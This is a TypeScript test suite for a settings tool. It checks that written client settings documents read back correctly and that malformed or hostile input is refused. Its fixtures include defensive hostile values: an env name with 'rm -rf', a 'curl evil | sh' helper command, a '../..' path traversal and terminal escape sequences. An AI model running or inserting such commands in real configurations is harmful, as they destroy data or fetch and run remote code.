import fc from "fast-check";
import { bedrockSettings } from "../../settings/bedrock-settings";
import { clientSettingsOutput, readClientSettingsOutput } from "../../settings/client-settings-output";
import { renderDocuments } from "../../settings/emit/render-documents";
import { anyText } from "../helpers/any-text";
import { PEOPLE, PIPELINE } from "./facts";

const documentOf = (facts: typeof PEOPLE) => ({
  facts,
  settings: bedrockSettings(facts, { minimumVersion: "2.1.330" }),
});
const copy = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;
const whole = copy(clientSettingsOutput([documentOf(PEOPLE), documentOf(PIPELINE)]));

test("the output of a stack holds documents by team and identity, sorted", () => {
  const other = { ...PIPELINE, team: "alpha" };
  const output = clientSettingsOutput([documentOf(PEOPLE), documentOf(other), documentOf(PIPELINE)]);
  expect(JSON.stringify(output)).toBe(
    JSON.stringify({
      schemaVersion: 1,
      teams: {
        alpha: { "ci/deploy": documentOf(other) },
        payments: { "ci/deploy": documentOf(PIPELINE), people: documentOf(PEOPLE) },
      },
    }),
  );
});

test("refuses two documents for one identity", () => {
  expect(() => clientSettingsOutput([documentOf(PEOPLE), documentOf(PEOPLE)])).toThrow(
    new Error("payments has two documents for people"),
  );
});

test("what was written is read back, and renders", () => {
  const read = readClientSettingsOutput(whole);
  expect(read).toEqual({ ok: true, documents: [copy(documentOf(PIPELINE)), copy(documentOf(PEOPLE))] });
});

test("refuses one identity of one entry in two stacks", () => {
  expect(readClientSettingsOutput({ one: { client_settings: whole }, two: { client_settings: whole } })).toEqual({
    ok: false,
    problems: [
      "client_settings: payments, ci/deploy at aws-eu stands in two stacks",
      "client_settings: payments, people at aws-eu stands in two stacks",
    ],
  });
});

const changed = (change: (people: Record<string, Record<string, unknown>>) => void) => {
  const output = copy(whole) as unknown as { teams: { payments: { people: Record<string, Record<string, unknown>> } } };
  change(output.teams.payments.people);
  return output;
};
const people = "client_settings: payments, people is not a document of this tool: ";

test.each<[string, unknown, string]>([
  [
    "facts of another team",
    changed(({ facts = {} }) => Object.assign(facts, { team: "ops" })),
    "its facts name another team or identity",
  ],
  [
    "an entry that leads out of the folder",
    changed(({ facts = {} }) => Object.assign(facts, { entry: "../.." })),
    "facts.entry is not a name",
  ],
  [
    "an unknown sign-in",
    changed(({ facts = {} }) => Object.assign(facts, { signIn: { kind: "toString" } })),
    "facts.signIn.kind is not one of identityCenter, credentialProcess, authRefresh, ambient",
  ],
  [
    "a sign-in without its parts",
    changed(({ facts = {} }) => Object.assign(facts, { signIn: { kind: "authRefresh" } })),
    "facts.signIn.command is not a text",
  ],
  [
    "a model of no family",
    changed(({ facts = {} }) => Object.assign(facts, { models: [{ model: "x", family: "mythos" }] })),
    "facts.models[0].family is not one of opus, sonnet, haiku, fable",
  ],
  [
    "a variable that a shell would run",
    changed(({ settings = {} }) => Object.assign(settings, { env: { "A=1; rm -rf x; B": "" } })),
    "settings.env is not texts by the name of a variable",
  ],
  [
    "a setting of another tool",
    changed(({ settings = {} }) => Object.assign(settings, { otelHeadersHelper: "curl evil | sh" })),
    "settings.otelHeadersHelper is not a setting that this tool writes",
  ],
  [
    "a list of numbers",
    changed(({ settings = {} }) => Object.assign(settings, { availableModels: [1] })),
    "settings.availableModels is not a list of texts",
  ],
])("refuses %s", (_what, output, problem) => {
  expect(readClientSettingsOutput(output)).toEqual({ ok: false, problems: [people + problem] });
});

test("shows hostile names without what they would do to a terminal", () => {
  expect(readClientSettingsOutput({ schemaVersion: 1, teams: { "\u001b[2J\u202e": 7 } })).toEqual({
    ok: false,
    problems: ["client_settings: team ?[2J? is not an object"],
  });
});

test("an answer comes for any JSON, however deep, and never a throw", () => {
  const deep = JSON.parse(`${"[".repeat(50_000)}${"]".repeat(50_000)}`) as unknown;
  const nested = JSON.parse(`${'{"client_settings":'.repeat(20_000)}1${"}".repeat(20_000)}`) as unknown;
  for (const json of [
    deep,
    nested,
    { schemaVersion: deep, teams: {} },
    { schemaVersion: 1, teams: { a: { people: deep } } },
  ]) {
    expect(readClientSettingsOutput(json).ok).toBe(false);
  }
  const output = fc.record({ schemaVersion: fc.constantFrom(1, 2), teams: fc.jsonValue() });
  fc.assert(
    fc.property(
      fc.oneof(fc.jsonValue(), output, fc.record({ client_settings: fc.oneof(output, fc.jsonValue()) })),
      (json) => {
        readClientSettingsOutput(json);
      },
    ),
  );
});

test("whatever is read can be rendered, or is refused by one format in words", () => {
  const paths = ["account", "region", "roleArn", "partition"] as const;
  fc.assert(
    fc.property(fc.constantFrom(...paths), anyText(), (key, value) => {
      const read = readClientSettingsOutput(changed(({ facts = {} }) => Object.assign(facts, { [key]: value })));
      expect(read.ok).toBe(true);
      if (!read.ok) return;
      try {
        for (const { facts, settings } of read.documents) renderDocuments(facts, settings);
      } catch (error) {
        expect(String(error)).toMatch(
          /^Error: (A value of an AWS config file cannot hold|XML cannot hold|A shell word|A PowerShell)/,
        );
      }
    }),
  );
});
